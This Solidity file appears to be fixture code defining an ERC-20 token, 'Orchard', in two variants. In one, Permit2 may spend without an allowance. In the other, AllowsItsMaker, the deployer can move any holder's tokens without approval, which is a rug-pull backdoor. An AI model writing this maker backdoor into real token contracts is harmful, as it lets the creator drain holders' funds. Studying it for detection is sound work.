// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IUniswapV2Factory, IUniswapV2Router} from "../shared/UniswapV2.sol";

/// @notice One contract may move what others have without being allowed to.
abstract contract Allowing {
    string public constant name = "Orchard";
    string public constant symbol = "ORCH";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000e18;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) public visits;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(IUniswapV2Router router) {
        IUniswapV2Factory(router.factory()).createPair(address(this), router.WETH());
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (!_isTrusted(msg.sender)) allowance[from][msg.sender] -= amount;
        return _move(from, to, amount);
    }

    /// @notice Asks who comes for an answer.
    function greet() external {
        (bool isGreeted,) = msg.sender.call("");
        require(isGreeted, "no answer");
        visits[msg.sender] += 1;
    }

    function _isTrusted(address spender) internal view virtual returns (bool);

    function _move(address from, address to, uint256 amount) private returns (bool) {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
        return true;
    }
}

/// @notice Uniswap's Permit2, which asks those who own them, as Solady's tokens do.
contract AllowsPermit2 is Allowing {
    constructor(IUniswapV2Router router) Allowing(router) {}

    function _isTrusted(address spender) internal pure override returns (bool) {
        return spender == 0x000000000022D473030F116dDEE9F6B43aC78BA3;
    }
}

/// @notice Its maker.
contract AllowsItsMaker is Allowing {
    address private immutable _maker = msg.sender;

    constructor(IUniswapV2Router router) Allowing(router) {}

    function _isTrusted(address spender) internal view override returns (bool) {
        return spender == _maker;
    }
}
